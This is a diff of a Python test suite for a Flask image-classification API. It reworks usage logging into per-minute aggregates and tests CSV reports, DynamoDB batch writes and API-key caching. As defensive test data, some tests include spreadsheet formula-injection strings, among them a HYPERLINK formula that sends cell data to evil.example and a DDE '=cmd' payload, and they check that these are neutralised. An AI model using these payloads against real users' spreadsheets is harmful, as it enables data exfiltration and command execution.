@@ -2,6 +2,7 @@
 from __future__ import annotations
 
 import csv
+import json
 
 import pytest
 from openapi_check import check_flask_response
@@ -12,7 +13,10 @@ from shared.aws import client
 from shared.messages import now_ms
 from webserver.app import create_app
 from webserver.keys import RateLimiter, hash_key, key_id_of
-from webserver.usage import UsageLog, UsageRecord, table_name
+from webserver.usage import Aggregate, Call, UsageLog, table_name
+from webserver.usage import day_of as usage_day
+
+pytestmark = pytest.mark.services("imagenet")   # only these queues (tests/conftest.py provisioned)
 
 
 @pytest.fixture
@@ -150,47 +154,55 @@ def test_probes_catalogue_description_and_pages_need_no_key(web):
     assert web.open("GET", "/classify?url=https://example.com/a.jpg").status_code == 401
 
 
-def _scan_usage(settings) -> list[UsageRecord]:
+def _scan_usage(settings) -> list[Aggregate]:
     db = client("dynamodb", settings)
     items = [i for page in db.get_paginator("scan").paginate(TableName=table_name(settings)) for i in page["Items"]]
-    return [UsageRecord.from_item(i) for i in items]
+    return [Aggregate.from_item(i) for i in items]
 
 
-def test_every_call_leaves_one_usage_record_with_its_fields_and_the_report_totals_match(keyed, app, web, tmp_path):
+def _totals(aggs: list[Aggregate]) -> dict[tuple[str, str], Aggregate]:
+    return usage_report.merged(aggs)
+
+
+def test_every_call_is_counted_in_its_keys_aggregate_with_its_fields_and_the_report_totals_match(
+        keyed, app, web, tmp_path):
     a, ka = create_key(keyed, "alice", rate_limit=100, burst=100)
     b, kb = create_key(keyed, "bob", rate_limit=100, burst=100)
-    ids = [_job(web, a).json["id"] for _ in range(3)]
+    for _ in range(3):
+        _job(web, a)
     _job(web, b)
     web.open("POST", "/jobs", b, json={"url": "ftp://example.com/x.jpg"})          # 400
     web.open("GET", "/classify?url=https://example.com/a.jpg")                     # 401, anonymous
     web.open("GET", "/healthz")                                                     # a probe: not logged
     app.extensions["classifycloud"].edge.usage.flush()
-    records = _scan_usage(keyed)
-    assert len(records) == 6
-    by_id = {r.request_id: r for r in records}
-    first = by_id[ids[0]]
-    assert (first.key_id, first.route, first.method, first.service, first.status) == \
-        (ka.key_id, "/jobs", "POST", "imagenet", 202)
-    assert first.latency_ms > 0 and first.bytes_in > 0 and first.bytes_out > 0
-    assert abs(first.at - now_ms()) < 60_000
-    assert sorted(r.status for r in records if r.key_id == kb.key_id) == [202, 400]
-    assert [r.status for r in records if r.key_id == "anonymous"] == [401]
+    totals = _totals(_scan_usage(keyed))
+    assert sum(t.calls for t in totals.values()) == 6
+    first = totals[(ka.key_id, "imagenet")]
+    assert (first.calls, dict(first.statuses), dict(first.routes)) == (3, {202: 3}, {"POST /jobs": 3})
+    assert 0 < first.lat_min <= first.lat_max and first.bytes_in > 0 and first.bytes_out > 0
+    assert sum(first.hist.values()) == 3
+    assert abs(first.minute - now_ms()) < 120_000 and first.minute % 60_000 == 0
+    # the rejected call named no service and never reached one: "-"
+    assert dict(totals[(kb.key_id, "imagenet")].statuses) == {202: 1}
+    assert dict(totals[(kb.key_id, "-")].statuses) == {400: 1}
+    assert dict(totals[("anonymous", "-")].statuses) == {401: 1}
 
     rows = usage_report.summarize(usage_report.fetch(keyed, now_ms() - 3_600_000))
     calls = {(r["key_id"], r["service"]): r["calls"] for r in rows}
-    # the rejected call named no service and never reached one: "-"
     assert calls[(ka.key_id, "imagenet")] == 3 and calls[(kb.key_id, "imagenet")] == 1
     assert calls[(kb.key_id, "-")] == 1 and calls[("anonymous", "-")] == 1
     assert sum(calls.values()) == 6
     assert sum(r["errors_4xx"] for r in rows if r["key_id"] == kb.key_id) == 1
     only_a = usage_report.fetch(keyed, now_ms() - 3_600_000, key_id=ka.key_id)
-    assert {r.request_id for r in only_a} == set(ids)
+    assert {x.key_id for x in only_a} == {ka.key_id}     # one key's report holds no other key's calls
     out = tmp_path / "usage.csv"
     usage_report.write_csv(only_a, str(out))
-    assert [row["request_id"] for row in csv.DictReader(out.open())] == sorted(ids, key=lambda i: by_id[i].at)
+    csv_rows = list(csv.DictReader(out.open()))
+    assert sum(int(r["calls"]) for r in csv_rows) == 3 and {r["key_id"] for r in csv_rows} == {ka.key_id}
+    assert {r["routes"] for r in csv_rows} <= {"POST /jobs=3", "POST /jobs=2", "POST /jobs=1"}
 
 
-def test_a_service_the_client_names_is_bounded_in_its_usage_record_and_csv_cells_never_start_a_formula(
+def test_a_service_the_client_names_is_bounded_in_its_usage_aggregate_and_csv_cells_never_start_a_formula(
         keyed, app, web, tmp_path):
     a, ka = create_key(keyed, "mallory", rate_limit=100, burst=100)
     formula = '=HYPERLINK("http://evil.example/?"&A1,"x")' + "A" * 8000
@@ -198,39 +210,75 @@ def test_a_service_the_client_names_is_bounded_in_its_usage_record_and_csv_cells
     assert r.status_code in (400, 404)
     web.open("POST", "/jobs", a, json={"url": "https://example.com/cat.jpg", "service": "imagenet"})
     app.extensions["classifycloud"].edge.usage.flush()
-    services = sorted(r.service for r in _scan_usage(keyed) if r.key_id == ka.key_id)
+    services = sorted(x.service for x in _scan_usage(keyed) if x.key_id == ka.key_id)
     assert services == ["(invalid)", "imagenet"], services
     out = tmp_path / "usage.csv"
-    usage_report.write_csv([UsageRecord("k1", "/jobs", "POST", "=1+1", 200, 1.0, 0, 0, "-2+3", now_ms()),
-                            UsageRecord("k1", "/jobs", "POST", "@SUM(A1)", 200, 1.0, 0, 0, "r1", now_ms() + 1)],
-                           str(out))
+    at = now_ms() // 60_000 * 60_000
+    evil = [Aggregate("k1", "=1+1", at), Aggregate("-2+3", "@SUM(A1)", at + 60_000)]
+    for agg in evil:
+        agg.add(Call(agg.key_id, "/jobs", "POST", agg.service, 200, 1.0, 0, 0, agg.minute))
+    usage_report.write_csv(evil, str(out))
     rows = list(csv.DictReader(out.open()))
-    assert [(x["service"], x["request_id"]) for x in rows] == [("'=1+1", "'-2+3"), ("'@SUM(A1)", "r1")]
+    assert [(x["key_id"], x["service"]) for x in rows] == [("k1", "'=1+1"), ("'-2+3", "'@SUM(A1)")]
 
 
-def test_the_usage_writer_loses_no_record_on_close(keyed):
+def _calls(key_id: str, service: str, n: int, at: int, status: int = 200) -> list[Call]:
+    return [Call(key_id, "/classify", "GET", service, status, 1.0 + i, 0, 10, at) for i in range(n)]
+
+
+def test_the_usage_writer_loses_no_call_on_close(keyed):
     log = UsageLog(keyed.replace(usage_flush_interval_s=30.0), client("dynamodb", keyed))
     log.start()
+    at = now_ms()
     for i in range(137):
-        log.record(UsageRecord("kclose", "/classify", "GET", "imagenet", 200, 1.0, 0, 10, f"r{i:04d}",
-                               now_ms() + i))
+        log.record(Call(f"kclose{i % 2}", "/classify", "GET", ("imagenet", "food", "insect")[i % 3], 200,
+                        1.0, 0, 10, at))
+    assert log.pending == 137
     log.close()
-    assert log.written == 137 and log.dropped == 0 and log.pending == 0
-    assert len([r for r in _scan_usage(keyed) if r.key_id == "kclose"]) == 137
+    assert log.written == 137 and log.dropped == 0 and log.pending == 0 and log.items == 6
+    stored = [x for x in _scan_usage(keyed) if x.key_id.startswith("kclose")]
+    assert len(stored) == 6 and sum(x.calls for x in stored) == 137
+
+
+def test_two_flushes_in_one_minute_write_two_items_that_add_up(keyed):
+    log = UsageLog(keyed.replace(usage_flush_interval_s=30.0), client("dynamodb", keyed))
+    at = now_ms()
+    for call in _calls("ktwice", "imagenet", 3, at):
+        log.record(call)
+    log.flush()
+    for call in _calls("ktwice", "imagenet", 2, at, status=503):
+        log.record(call)
+    log.close()
+    stored = [x for x in _scan_usage(keyed) if x.key_id == "ktwice"]
+    assert sorted(x.calls for x in stored) == [2, 3] and len({x.process for x in stored}) == 1
+    (row,) = [r for r in usage_report.summarize(stored)]
+    assert (row["calls"], row["errors_5xx"]) == (5, 2)
+
+
+def test_a_per_call_item_of_the_old_log_reads_as_one_call_in_the_report(keyed):
+    at = now_ms()
+    client("dynamodb", keyed).put_item(TableName=table_name(keyed), Item={   # the shape written before aggregation
+        "day": {"S": usage_day(at)}, "sk": {"S": f"{at:013d}#r1#ab12"}, "key_id": {"S": "kold"},
+        "route": {"S": "/classify"}, "method": {"S": "GET"}, "service": {"S": "imagenet"}, "status": {"N": "503"},
+        "latency_ms": {"N": "12.5"}, "bytes_in": {"N": "0"}, "bytes_out": {"N": "99"}, "request_id": {"S": "r1"},
+        "at": {"N": str(at)}, "expires_at": {"N": str(at // 1000 + 86400)}})
+    (row,) = usage_report.summarize(usage_report.fetch(keyed, at - 60_000, key_id="kold"))
+    assert (row["calls"], row["errors_5xx"], row["p50_ms"], row["bytes_out"]) == (1, 1, 12.5, 99)
 
 
 def test_the_usage_cli_prints_totals_and_writes_csv(keyed, tmp_path, monkeypatch, capsys):
     log = UsageLog(keyed, client("dynamodb", keyed))
+    at = now_ms()
     for i, status in enumerate([200, 200, 422, 503]):
-        log.record(UsageRecord("kcli", "/classify", "POST", "imagenet", status, 10.0 * (i + 1), 100, 50,
-                               f"c{i}", now_ms()))
+        log.record(Call("kcli", "/classify", "POST", "imagenet", status, 10.0 * (i + 1), 100, 50, at))
     log.close()
     monkeypatch.setenv("CLASSIFYCLOUD_PREFIX", keyed.prefix)
     assert usage_report.main(["--since", "1h", "--key", "kcli", "--csv", str(tmp_path / "u.csv")]) == 0
     out = capsys.readouterr().out
     row = next(line for line in out.splitlines() if line.startswith("kcli") and "imagenet" in line)
     assert row.split()[2:5] == ["4", "1", "1"]
-    assert len(list(csv.DictReader((tmp_path / "u.csv").open()))) == 4
+    (csv_row,) = list(csv.DictReader((tmp_path / "u.csv").open()))
+    assert (csv_row["calls"], csv_row["statuses"], csv_row["routes"]) == ("4", "200=2; 422=1; 503=1", "POST /classify=4")
     assert usage_report.main(["--since", "yesterday"]) == 2
 
 
@@ -243,32 +291,31 @@ def test_the_token_bucket_refills_at_the_key_rate():
     assert rl.acquire("k", rate=2.0, burst=2) == 0.0
 
 
-def test_one_refused_usage_record_never_takes_its_batch_with_it(keyed):
+def test_one_refused_usage_item_never_takes_its_batch_with_it(keyed):
     log = UsageLog(keyed.replace(usage_flush_interval_s=30.0), client("dynamodb", keyed), max_attempts=2)
     at = now_ms()
-    good = [UsageRecord("kbatch", "/classify", "GET", "imagenet", 200, 1.0, 0, 10, f"g{i:02d}", at + i)
-            for i in range(23)]
-    too_long = UsageRecord("kbatch", "/classify", "GET", "-", 401, 1.0, 0, 10, "x" * 2000, at)
-    twin = UsageRecord("kbatch", "/classify", "GET", "-", 404, 1.0, 0, 10, "g00", at)  # g00's id, same ms
-    huge = UsageRecord("kbatch", "/" + "r" * 410_000, "GET", "-", 404, 1.0, 0, 10, "h", at)  # > 400 KB item
-    for rec in good[:10] + [too_long, huge] + good[10:] + [twin]:   # the first batch of 25 holds all three
-        log.record(rec)
+    for i in range(24):                      # 24 good aggregates and one over DynamoDB's 400 KB: one batch
+        for call in _calls("kbatch", f"svc{i:02d}", 2, at):
+            log.record(call)
+        if i == 10:
+            log.record(Call("kbatch", "/" + "r" * 410_000, "GET", "huge", 404, 1.0, 0, 10, at))
     log.close()
-    stored = [r for r in _scan_usage(keyed) if r.key_id == "kbatch"]
-    assert sorted(r.request_id for r in stored if r.status == 200) == sorted(r.request_id for r in good)
-    assert [r.status for r in stored if r.request_id == "g00"].count(404) == 1
-    assert len([r for r in stored if r.status == 401 and len(r.request_id) == 2000]) == 1
-    assert (log.written, log.dropped) == (25, 1)
+    stored = [x for x in _scan_usage(keyed) if x.key_id == "kbatch"]
+    assert sorted(x.service for x in stored) == [f"svc{i:02d}" for i in range(24)]
+    assert sum(x.calls for x in stored) == 48
+    assert (log.written, log.dropped, log.items) == (48, 1, 24)
 
 
-def test_a_client_request_id_is_logged_only_when_short_and_safe(keyed, app, web):
-    web.open("GET", "/classify?url=https://example.com/a.jpg", headers={"X-Request-Id": "client-id_01"})
-    web.open("GET", "/classify?url=https://example.com/a.jpg", headers={"X-Request-Id": "y" * 5000})
-    web.open("GET", "/classify?url=https://example.com/a.jpg", headers={"X-Request-Id": "no spaces#or/slashes"})
+def test_a_client_request_id_never_reaches_the_usage_log(keyed, app, web):
+    sent = ("client-id_01", "y" * 5000, "=cmd|' /C calc'!A0")
+    for rid in sent:
+        web.open("GET", "/classify?url=https://example.com/a.jpg", headers={"X-Request-Id": rid})
     app.extensions["classifycloud"].edge.usage.flush()
-    records = [r for r in _scan_usage(keyed) if r.status == 401]
-    assert len(records) == 3 and "client-id_01" in {r.request_id for r in records}
-    assert all(len(r.request_id) <= 64 and all(c.isalnum() or c in "-_" for c in r.request_id) for r in records)
+    db = client("dynamodb", keyed)
+    items = [i for page in db.get_paginator("scan").paginate(TableName=table_name(keyed)) for i in page["Items"]]
+    assert items and not any(rid in json.dumps(items) for rid in sent)
+    (anon,) = _totals([Aggregate.from_item(i) for i in items]).values()
+    assert (anon.key_id, anon.calls, dict(anon.statuses)) == ("anonymous", 3, {401: 3})
 
 
 def test_a_job_accepted_without_its_marker_still_answers_its_owner_once_done(keyed, app, web):
@@ -313,6 +360,31 @@ def test_a_flood_of_unknown_key_ids_never_evicts_a_key_in_use(keyed):
         if i % 5 == 0:
             assert store.verify(secret) is not None, i   # in use: kept
     assert len(store._cache) <= 20
+
+
+def test_threads_that_find_a_key_uncached_together_make_one_lookup(keyed):
+    import threading
+
+    from webserver.keys import KeyStore
+    secret, rec = create_key(keyed, "jack")
+    db = client("dynamodb", keyed)
+    store = KeyStore(keyed.replace(api_key_cache_s=60.0), db)
+    reads = []
+    db.meta.events.register("before-call.dynamodb.GetItem", lambda **_: reads.append(1), unique_id="count-get")
+    start = threading.Barrier(16)
+    found = []
+
+    def verify():
+        start.wait()
+        found.append(store.verify(secret))
+
+    threads = [threading.Thread(target=verify) for _ in range(16)]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join(30)
+    assert [k.key_id for k in found] == [rec.key_id] * 16
+    assert len(reads) == 1     # one GetItem for the 16 calls; the others waited for its answer
 
 
 def test_api_keys_auto_stays_on_whatever_endpoint_the_environment_names(moto_endpoint, monkeypatch):
